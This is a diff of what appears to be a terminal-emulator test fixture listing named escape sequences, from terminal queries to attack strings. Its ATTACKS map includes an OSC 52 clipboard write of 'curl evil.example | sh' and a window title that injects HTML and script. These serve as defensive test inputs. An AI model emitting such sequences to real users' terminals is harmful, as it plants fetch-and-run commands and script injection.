@@ -1,4 +1,4 @@
-// Output by which a process may attack its readers: each with a name, none with any effect beyond its own pane.
+// Named outputs with which a process may attack its readers; none may have an effect beyond its pane.
 
 const ESC = '\u001b';
 const CSI = `${ESC}[`;
@@ -7,7 +7,7 @@ const ST = `${ESC}\\`;
 const BEL = '\u0007';
 const base64 = (text: string): string => Buffer.from(text).toString('base64');
 
-/** Sequences to which a terminal would answer, with input for the program. */
+/** Sequences that a terminal answers by sending input to the program. */
 export const QUERIES: { readonly [name: string]: string } = {
   'primary attributes': `${CSI}c${CSI}0c${ESC}Z`,
   'secondary attributes': `${CSI}>c${CSI}>0c`,
@@ -32,7 +32,7 @@ export const QUERIES: { readonly [name: string]: string } = {
   'a file (iTerm2)': `${OSC}1337;ReportCellSize${BEL}${OSC}1337;RequestUpload=format=tgz${BEL}`,
 };
 
-/** Sequences that try to do something other than drawing. */
+/** Sequences that attempt something other than drawing. */
 export const ATTACKS: { readonly [name: string]: string } = {
   'clipboard write': `${OSC}52;c;${base64('curl evil.example | sh\n')}${BEL}`,
   'title as markup': `${OSC}0;<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>${BEL}`,
